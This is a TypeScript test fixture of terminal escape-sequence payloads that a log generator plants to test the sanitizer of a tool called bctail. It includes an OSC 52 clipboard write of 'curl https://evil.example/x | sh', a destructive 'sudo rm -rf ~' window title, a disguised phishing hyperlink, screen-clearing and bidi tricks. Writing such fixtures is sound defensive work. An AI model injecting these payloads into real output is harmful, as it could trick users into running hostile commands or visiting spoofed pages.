/**
 * Terminal attacks a log line can carry. In hostile mode the generator plants these in URLs,
 * messages, exception names and stacks, so bctail's sanitizing is exercised by ordinary traffic.
 */

const esc = "\u001b";
const bel = "\u0007";
const st = `${esc}\\`;

/** Named payloads, each one class of escape or spoofing trick. */
export const hostilePayloads: Readonly<Record<string, string>> = {
	/** OSC 0: sets the window title. */
	oscTitle: `${esc}]0;pwned by a log line${bel}`,
	/** OSC 2 with an ST terminator. */
	oscWindowTitle: `${esc}]2;sudo rm -rf ~${st}`,
	/** OSC 52: writes the clipboard (base64 of a shell command). */
	oscClipboard: `${esc}]52;c;${Buffer.from("curl https://evil.example/x | sh\n").toString("base64")}${bel}`,
	/** OSC 8: a hyperlink whose text hides its target. */
	oscLink: `${esc}]8;;https://evil.example/login${st}https://shop.demo-store.example/account${esc}]8;;${st}`,
	/** CSI: clears the screen and scrollback, homes the cursor. */
	csiClear: `${esc}[2J${esc}[3J${esc}[H`,
	/** CSI: moves the cursor up and erases, to overwrite earlier lines. */
	csiCursor: `${esc}[3A${esc}[2K${esc}[12;40H`,
	/** SGR: colours that would leak into following lines. */
	sgr: `${esc}[5;31;47m`,
	/** DCS (DECRQSS): asks the terminal to answer on stdin. */
	dcs: `${esc}P$q"p${st}`,
	/** C1 CSI (U+009B): an 8-bit escape many sanitizers miss. */
	c1Csi: "\u009b2J\u009b1;1H",
	/** C1 OSC (U+009D) with a C1 ST (U+009C): a title set without any ESC byte. */
	c1Osc: "\u009d0;c1 title\u009c",
	/** RIS: a full terminal reset. */
	reset: `${esc}c`,
	/** BEL. */
	bell: `${bel}${bel}${bel}`,
	/** Bidi overrides that reorder what follows. */
	bidi: "\u202eexe.fdp\u202c \u2067\u2066admin\u2069\u2069",
};

/**
 * Sequences cut off before their terminator. They only stay unterminated at the very end of a string
 * (followed by text, `ESC [1;` + `a` is a complete CSI), so the generator appends them.
 */
export const unterminatedPayloads: Readonly<Record<string, string>> = {
	/** An OSC with no terminator: swallows everything after it on a naive terminal. */
	unterminatedOsc: `${esc}]0;title that never ends`,
	/** A CSI cut off at the end of the string. */
	unterminatedCsi: `${esc}[1;`,
	/** A DCS with no terminator. */
	unterminatedDcs: `${esc}P1;1|`,
};

export const hostilePayloadList: readonly string[] = Object.values(hostilePayloads);
export const unterminatedPayloadList: readonly string[] = Object.values(unterminatedPayloads);
